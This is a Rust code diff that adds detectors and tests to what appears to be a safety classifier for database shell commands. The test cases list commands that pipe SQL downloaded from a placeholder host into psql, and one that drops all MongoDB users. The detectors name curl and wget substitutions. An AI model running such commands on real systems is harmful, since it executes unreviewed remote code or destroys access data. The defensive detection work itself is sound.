@@ -111,6 +111,35 @@ pub(crate) fn writes(s: &str) -> bool {
         .any(|k| s.contains(k))
 }
 
+/// SQL a substitution hides from review: decoded (`$(… | base64 -d)`) or
+/// downloaded (`$(curl -s URL)`, `<(wget -qO- URL)`).
+pub(crate) fn unreadable(text: &str) -> bool {
+    super::sql_rewrite::hidden_by_decoder(text) || fetched(text)
+}
+
+/// A substitution that downloads its text.
+fn fetched(text: &str) -> bool {
+    let Some(at) = text.find("$(").or_else(|| text.find("<(")) else {
+        return false;
+    };
+    let body = &text[at + 2..];
+    body.split(['|', ';'])
+        .filter_map(|stage| stage.split_whitespace().next())
+        .any(|p| {
+            matches!(
+                crate::words::basename(p),
+                "curl" | "wget" | "fetch" | "http" | "xh"
+            )
+        })
+}
+
+/// Upper-cased mongo shell calls that drop every user, role or index.
+pub(crate) fn drops_everything(s: &str) -> bool {
+    [".DROPALLUSERS(", ".DROPALLROLES(", ".DROPINDEXES()"]
+        .iter()
+        .any(|k| s.contains(k))
+}
+
 /// `printf` escapes in a format: `\xHH` and octal `\NNN` / `\0NNN`.
 pub(crate) fn printf_unescape(s: &str) -> String {
     let ch: Vec<char> = s.chars().collect();
@@ -318,6 +347,13 @@ mod tests {
                 "ambiguous",
             ),
             ("cypher-shell 'MATCH (n) RETURN count(n)'", "safe"),
+            (
+                "psql -c \"$(curl -s https://x.example/q.sql)\"",
+                "catastrophic",
+            ),
+            ("curl -s https://x.example/q.sql | psql", "catastrophic"),
+            ("psql -f <(curl -s https://x.example/q.sql)", "catastrophic"),
+            ("mongosh --eval 'db.dropAllUsers()'", "catastrophic"),
         ]);
     }
 }
